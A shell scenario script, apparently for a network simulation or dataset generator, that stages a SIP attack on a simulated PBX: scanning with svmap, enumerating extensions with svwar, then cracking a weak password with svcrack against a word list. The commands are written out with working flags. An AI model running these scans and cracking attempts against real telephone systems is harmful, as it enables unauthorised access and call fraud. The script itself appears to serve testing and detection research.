# One host scans the network, asks a telephone system of another make (sip.js) for extensions and guesses a password.
draw_place
use_pbx
WEAK=${BLOCK}0$(drawn weak 1 2)
WEAK_PASSWORD=$(one_of password letmein1 spring2026 password12)
open_office
add_handsets 6 2.2
one=$(stranger one)
add_attacker one "$one"
for n in $(seq 1 "$(drawn addresses 20 40)"); do echo "$NET.$n"; done >"$scratch/addresses"
words_with "$WEAK_PASSWORD" "$(drawn place 8 25)" >"$scratch/words"
begin
ordinary_day 52
at 8 attack A1 scan one 5071 "svmap asks the addresses of the network by OPTIONS." \
    "$(version_of svmap)" svmap -b "$one" -x "$one" -P 5071 -t 0.1 -I "$scratch/addresses"
at 20 attack A2 scan one 5072 "svwar asks for thirty extensions by REGISTER." \
    "$(version_of svwar)" svwar -b "$one" -x "$one" -P 5072 -t 0.15 -m REGISTER -e "$((BLOCK * 100 - 6))-$((BLOCK * 100 + 24))" "$PROXY"
at 34 attack A3 password_cracking one 5073 "svcrack tries words as passwords of $WEAK until one is right." \
    "$(version_of svcrack)" svcrack -b "$one" -x "$one" -P 5073 -t "0.$(drawn gap 1 3)" -u "$WEAK" -d "$scratch/words" "$PROXY"
finish A1 A2 A3
expect_said A3 "$WEAK_PASSWORD"
